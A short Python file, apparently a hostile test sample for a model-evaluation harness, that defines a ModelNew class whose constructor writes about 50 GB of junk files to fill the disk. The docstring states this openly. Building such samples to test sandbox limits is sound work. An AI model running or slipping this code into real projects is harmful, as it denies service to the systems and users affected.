"""Fills the disk."""

from work import Linear


class ModelNew(Linear):
    def __init__(self, *args):
        super().__init__(*args)
        data = b"x" * (64 << 20)
        for n in range(100):
            with open(f"part-{n}", "wb") as file:
                for _ in range(8):
                    file.write(data)
